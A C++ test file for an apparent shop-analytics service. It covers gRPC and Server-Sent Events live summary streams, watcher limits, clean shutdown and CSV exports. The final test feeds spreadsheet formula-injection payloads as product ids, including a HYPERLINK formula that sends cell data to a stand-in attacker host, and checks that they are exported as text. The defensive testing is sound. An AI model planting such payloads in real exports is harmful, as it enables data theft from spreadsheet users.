// Live updates and CSV downloads across real processes: WatchSummary over
// gRPC, the same stream as Server-Sent Events through the gateway, and the
// CSV exports read back against their JSON twins.
#include <grpcpp/grpcpp.h>
#include <sys/wait.h>

#include <chrono>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "query/csv_test_reader.h"
#include "rapidjson/document.h"
#include "shopstream/v1/analytics.grpc.pb.h"
#include "shopstream/v1/ingest.grpc.pb.h"
#include "tests/event_stream_client.h"
#include "tests/local_stack.h"

namespace shopstream::testing {
namespace {

using ::testing::HasSubstr;

// Generous bounds; the updates arrive in a fraction of these.
constexpr auto kStreamDeadline = std::chrono::seconds(30);
constexpr auto kUpdateBound = std::chrono::seconds(5);

std::string Event(const std::string& shop, const std::string& id,
                  const std::string& type, const std::string& product,
                  const std::string& extra = "") {
  std::string quoted;  // as a JSON string
  for (char c : product) {
    if (c == '"' || c == '\\') quoted += '\\';
    if (c == '\n') {
      quoted += "\\n";
    } else if (c == '\r') {
      quoted += "\\r";
    } else if (c == '\t') {
      quoted += "\\t";
    } else {
      quoted += c;
    }
  }
  return absl::StrCat(R"({"shop_id":")", shop, R"(","event_id":")", id,
                      R"(","event_type":")", type,
                      R"(","timestamp":"2025-10-02T10:30:00Z","product_id":")",
                      quoted, "\"", extra, "}");
}

// Through the gateway, with the shop's write key.
void Ingest(LocalStack& stack, const std::string& shop,
            const std::string& body) {
  HttpResponse r = stack.Post("/v1/events", body, shop);
  ASSERT_EQ(r.status, 202) << r.body;
}

int64_t PageViews(const std::string& json) {
  rapidjson::Document doc;
  doc.Parse(json.c_str());
  EXPECT_FALSE(doc.HasParseError()) << json;
  if (doc.HasParseError() || !doc.HasMember("total_page_views")) return -1;
  return doc["total_page_views"].GetInt64();
}

std::unique_ptr<v1::AnalyticsService::Stub> QueryStub(LocalStack& stack,
                                                      const std::string& shop) {
  return v1::AnalyticsService::NewStub(stack.QueryChannel(shop));
}

TEST(StreamingTest, GrpcWatcherSeesIngestedEventsPromptly) {
  LocalStack stack;
  auto query = QueryStub(stack, "live");
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + kStreamDeadline);
  v1::GetSummaryRequest request;
  request.set_shop_id("live");
  auto reader = query->WatchSummary(&context, request);
  v1::Summary summary;
  ASSERT_TRUE(reader->Read(&summary));
  EXPECT_EQ(summary.total_page_views(), 0);
  EXPECT_TRUE(summary.has_as_of());

  for (int i = 1; i <= 3; ++i) {
    const auto ingested = std::chrono::steady_clock::now();
    Ingest(stack, "live",
           Event("live", absl::StrCat("e", i), "page_view", "p1"));
    bool seen = false;
    while (reader->Read(&summary)) {
      if (summary.total_page_views() == i) {
        seen = true;
        break;
      }
    }
    ASSERT_TRUE(seen) << "update " << i << " never arrived";
    const auto latency = std::chrono::steady_clock::now() - ingested;
    RecordProperty(
        absl::StrCat("update_", i, "_ms"),
        std::chrono::duration_cast<std::chrono::milliseconds>(latency).count());
    EXPECT_LT(latency, kUpdateBound);
  }
  context.TryCancel();
}

TEST(StreamingTest, ServerSentEventsThroughTheGateway) {
  LocalStack stack({.gateway_flags = {"--event_stream_keep_alive_ms=200"}});
  Ingest(stack, "sse", Event("sse", "e1", "page_view", "p1"));
  // EventSource cannot set headers: the key rides in the query string.
  EventStreamClient client(
      stack.http_port(),
      "/v1/shops/sse/summary:watch?key=" + stack.ReadKey("sse"));
  std::optional<std::string> first = client.NextData();
  ASSERT_TRUE(first.has_value());
  EXPECT_THAT(client.headers(), HasSubstr("Content-Type: text/event-stream"));
  EXPECT_THAT(client.headers(), HasSubstr("Access-Control-Allow-Origin: *"));
  EXPECT_EQ(PageViews(*first), 1);
  // The initial summary is the one GetSummary answers.
  HttpResponse summary = stack.Get("/v1/shops/sse/summary", "sse");
  ASSERT_EQ(summary.status, 200);
  EXPECT_EQ(PageViews(summary.body), 1);

  Ingest(stack, "sse", Event("sse", "e2", "page_view", "p1"));
  std::optional<std::string> update;
  while ((update = client.NextData()).has_value() && PageViews(*update) != 2) {
  }
  ASSERT_TRUE(update.has_value()) << "the update never arrived";
  EXPECT_EQ(PageViews(*update), 2);
}

TEST(StreamingTest, ClosingTheEventStreamEndsTheBackendWatch) {
  // One watcher at most: a slot is free again only once the gateway has
  // cancelled the watch of a client that left.
  LocalStack stack({.query_flags = {"--max_watchers=1"}});
  auto query = QueryStub(stack, "s");
  EventStreamClient client(
      stack.http_port(), "/v1/shops/s/summary:watch?key=" + stack.ReadKey("s"));
  ASSERT_TRUE(client.NextData().has_value());

  HttpResponse refused = stack.Get("/v1/shops/s/summary:watch", "s");
  EXPECT_EQ(refused.status, 429);
  EXPECT_THAT(refused.body, HasSubstr("at most 1 summary watchers"));

  client.Close();
  bool watching = false;
  const auto deadline = std::chrono::steady_clock::now() + kStreamDeadline;
  while (!watching && std::chrono::steady_clock::now() < deadline) {
    grpc::ClientContext context;
    context.set_deadline(std::chrono::system_clock::now() +
                         std::chrono::seconds(10));
    v1::GetSummaryRequest request;
    request.set_shop_id("s");
    auto reader = query->WatchSummary(&context, request);
    v1::Summary summary;
    watching = reader->Read(&summary);
    if (watching) {
      context.TryCancel();
    } else {
      EXPECT_EQ(reader->Finish().error_code(),
                grpc::StatusCode::RESOURCE_EXHAUSTED);
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  }
  EXPECT_TRUE(watching) << "the closed stream's watch was never released";
}

TEST(StreamingTest, OneKeyCannotHoldEveryEventStreamOfItsShop) {
  LocalStack stack({.query_flags = {"--max_watchers_per_key=1"}});
  const std::string key = stack.ReadKey("s");
  EventStreamClient first(stack.http_port(),
                          "/v1/shops/s/summary:watch?key=" + key);
  ASSERT_TRUE(first.NextData().has_value());

  HttpResponse refused = HttpRequest(
      stack.http_port(), "GET", "/v1/shops/s/summary:watch?key=" + key, "",
      "application/json", {{"Accept", "text/event-stream"}});
  EXPECT_EQ(refused.status, 429);
  EXPECT_EQ(refused.headers["retry-after"], "1");
  EXPECT_THAT(refused.body, HasSubstr("at most 1 summary watchers of API key"));

  EventStreamClient other_key(stack.http_port(),
                              "/v1/shops/s/summary:watch?key=" +
                                  stack.AnotherKey("s", auth::Scope::kRead));
  EXPECT_TRUE(other_key.NextData().has_value());
}

TEST(StreamingTest, SigtermWithWatchersConnectedExitsCleanly) {
  LocalStack stack;
  auto query = QueryStub(stack, "x");
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + kStreamDeadline);
  v1::GetSummaryRequest request;  // no shop: the key's
  auto reader = query->WatchSummary(&context, request);
  v1::Summary summary;
  ASSERT_TRUE(reader->Read(&summary));
  EventStreamClient client(
      stack.http_port(), "/v1/shops/x/summary:watch?key=" + stack.ReadKey("x"));
  ASSERT_TRUE(client.NextData().has_value());

  // The gateway first: its stream ends, and so does its watch.
  const int gateway_status = stack.gateway().Terminate(10000);
  ASSERT_NE(gateway_status, -1) << "the gateway had to be killed";
  EXPECT_TRUE(WIFEXITED(gateway_status) && WEXITSTATUS(gateway_status) == 0);
  EXPECT_FALSE(client.NextData().has_value());

  // The gRPC watcher keeps reading, as a client does. (The exit waits up
  // to the server's 5 s shutdown deadline for idle client connections,
  // this test's included; that is gRPC's graceful shutdown, not the
  // watchers.)
  grpc::Status watch_status;
  std::thread watcher([&] {
    while (reader->Read(&summary)) {
    }
    watch_status = reader->Finish();
  });
  const int query_status = stack.query().Terminate(10000);
  watcher.join();
  ASSERT_NE(query_status, -1) << "the query service had to be killed";
  EXPECT_TRUE(WIFEXITED(query_status) && WEXITSTATUS(query_status) == 0);
  EXPECT_EQ(watch_status.error_code(), grpc::StatusCode::UNAVAILABLE)
      << watch_status.error_message();
}

std::string Cents(const rapidjson::Value& value) {
  return absl::StrFormat("%.2f", value.GetDouble());
}

TEST(StreamingTest, CsvDownloadsMatchTheirJsonTwins) {
  LocalStack stack;
  const int port = stack.http_port();
  const std::vector<std::string> products = {"plain", "a,b", "say \"hi\"",
                                             "two\nlines"};
  int n = 0;
  for (size_t i = 0; i < products.size(); ++i) {
    for (size_t views = 0; views <= i; ++views) {
      Ingest(stack, "csv",
             Event("csv", absl::StrCat("v", n++), "page_view", products[i]));
    }
  }
  Ingest(stack, "csv",
         Event("csv", "buy", "purchase", "a,b", R"(,"order_amount":12.5)"));

  const std::string range = "from=2025-10-02T00:00:00Z&to=2025-10-03T00:00:00Z";
  HttpResponse top_json =
      stack.Get("/v1/shops/csv/products/top?" + range, "csv");
  ASSERT_EQ(top_json.status, 200) << top_json.body;
  // A download link carries the key in its query string.
  HttpResponse top_csv = HttpRequest(port, "GET",
                                     "/v1/shops/csv/products/top.csv?" + range +
                                         "&key=" + stack.ReadKey("csv"));
  ASSERT_EQ(top_csv.status, 200) << top_csv.body;
  EXPECT_EQ(top_csv.headers["content-type"], "text/csv; charset=utf-8");
  EXPECT_EQ(top_csv.headers["content-disposition"],
            "attachment; filename=\"top.csv\"");
  rapidjson::Document top;
  top.Parse(top_json.body.c_str());
  ASSERT_TRUE(top.IsObject() && top.HasMember("products")) << top_json.body;
  const auto& json_products = top["products"].GetArray();
  const auto rows = ParseCsv(top_csv.body);
  ASSERT_EQ(rows.size(), json_products.Size() + 1) << top_csv.body;
  ASSERT_EQ(json_products.Size(), products.size());
  for (size_t i = 0; i < json_products.Size(); ++i) {
    const auto& p = json_products[i];
    ASSERT_EQ(rows[i + 1].size(), 6u);
    EXPECT_EQ(rows[i + 1][0], p["product_id"].GetString());
    EXPECT_EQ(rows[i + 1][1], absl::StrCat(p["page_views"].GetInt64()));
    EXPECT_EQ(rows[i + 1][2], absl::StrCat(p["add_to_carts"].GetInt64()));
    EXPECT_EQ(rows[i + 1][3], absl::StrCat(p["purchases"].GetInt64()));
    EXPECT_EQ(rows[i + 1][4], Cents(p["revenue"]));
    EXPECT_EQ(rows[i + 1][5], Cents(p["conversion_rate"]));
  }
  // The most viewed product, with its newline, comes first and intact.
  EXPECT_EQ(rows[1][0], "two\nlines");

  HttpResponse series_json =
      stack.Get("/v1/shops/csv/timeseries?bucket=HOUR&" + range, "csv");
  ASSERT_EQ(series_json.status, 200) << series_json.body;
  HttpResponse series_csv =
      stack.Get("/v1/shops/csv/timeseries.csv?bucket=HOUR&" + range, "csv");
  ASSERT_EQ(series_csv.status, 200) << series_csv.body;
  EXPECT_EQ(series_csv.headers["content-disposition"],
            "attachment; filename=\"timeseries.csv\"");
  rapidjson::Document series;
  series.Parse(series_json.body.c_str());
  ASSERT_TRUE(series.IsObject() && series.HasMember("points"));
  const auto& points = series["points"].GetArray();
  const auto series_rows = ParseCsv(series_csv.body);
  ASSERT_EQ(points.Size(), 24u);
  ASSERT_EQ(series_rows.size(), points.Size() + 1);
  EXPECT_EQ(series_rows[0][0], "bucket_start");
  int64_t total_views = 0;
  for (size_t i = 0; i < points.Size(); ++i) {
    const auto& p = points[i];
    const auto& row = series_rows[i + 1];
    ASSERT_EQ(row.size(), 5u);
    EXPECT_EQ(row[0], p["start"].GetString());
    EXPECT_EQ(row[1], absl::StrCat(p["page_views"].GetInt64()));
    EXPECT_EQ(row[2], absl::StrCat(p["add_to_carts"].GetInt64()));
    EXPECT_EQ(row[3], absl::StrCat(p["purchases"].GetInt64()));
    EXPECT_EQ(row[4], Cents(p["revenue"]));
    total_views += std::stoll(row[1]);
  }
  EXPECT_EQ(total_views, 10);
  EXPECT_EQ(series_rows[11][0], "2025-10-02T10:00:00Z");
  EXPECT_EQ(series_rows[11][4], "12.50");
}

// A cell a spreadsheet would run as a formula: what a product id must never
// become in a download.
bool LooksLikeFormula(const std::string& cell) {
  return !cell.empty() &&
         std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
}

bool IsNumber(const std::string& cell) {
  double ignored;
  return absl::SimpleAtod(cell, &ignored);
}

TEST(StreamingTest, CsvDownloadsTurnFormulasIntoText) {
  LocalStack stack;
  const std::vector<std::string> products = {
      R"(=HYPERLINK("http://evil.example/?"&A1,"Click"))",
      "+1+2",
      "-1+2",
      "@SUM(A1:A9)",
      "\t=1+2",
      "\r=1+2",
      "=1,2"};
  int n = 0;
  for (size_t i = 0; i < products.size(); ++i) {
    for (size_t views = 0; views <= i; ++views) {
      Ingest(
          stack, "formula",
          Event("formula", absl::StrCat("v", n++), "page_view", products[i]));
    }
  }
  Ingest(
      stack, "formula",
      Event("formula", "buy", "purchase", "-1+2", R"(,"order_amount":12.5)"));

  const std::string range = "from=2025-10-02T00:00:00Z&to=2025-10-03T00:00:00Z";
  HttpResponse top_json =
      stack.Get("/v1/shops/formula/products/top?limit=100&" + range, "formula");
  ASSERT_EQ(top_json.status, 200) << top_json.body;
  HttpResponse top_csv = stack.Get(
      "/v1/shops/formula/products/top.csv?limit=100&" + range, "formula");
  ASSERT_EQ(top_csv.status, 200) << top_csv.body;
  rapidjson::Document top;
  top.Parse(top_json.body.c_str());
  ASSERT_TRUE(top.IsObject() && top.HasMember("products")) << top_json.body;
  const auto& json_products = top["products"].GetArray();
  ASSERT_EQ(json_products.Size(), products.size());
  const auto rows = ParseCsv(top_csv.body);
  ASSERT_EQ(rows.size(), products.size() + 1) << top_csv.body;
  for (size_t i = 0; i < json_products.Size(); ++i) {
    const auto& p = json_products[i];
    const auto& row = rows[i + 1];
    ASSERT_EQ(row.size(), 6u);
    // The id as a spreadsheet shows it: text, apostrophe and all.
    EXPECT_EQ(row[0], absl::StrCat("'", p["product_id"].GetString()));
    EXPECT_EQ(row[1], absl::StrCat(p["page_views"].GetInt64()));
    EXPECT_EQ(row[2], absl::StrCat(p["add_to_carts"].GetInt64()));
    EXPECT_EQ(row[3], absl::StrCat(p["purchases"].GetInt64()));
    EXPECT_EQ(row[4], Cents(p["revenue"]));
    EXPECT_EQ(row[5], Cents(p["conversion_rate"]));
  }
  HttpResponse series_csv = stack.Get(
      "/v1/shops/formula/timeseries.csv?bucket=HOUR&" + range, "formula");
  ASSERT_EQ(series_csv.status, 200) << series_csv.body;
  for (const auto& file : {rows, ParseCsv(series_csv.body)}) {
    for (const auto& row : file) {
      for (const std::string& cell : row) {
        EXPECT_TRUE(!LooksLikeFormula(cell) || IsNumber(cell)) << cell;
      }
    }
  }
}

}  // namespace
}  // namespace shopstream::testing
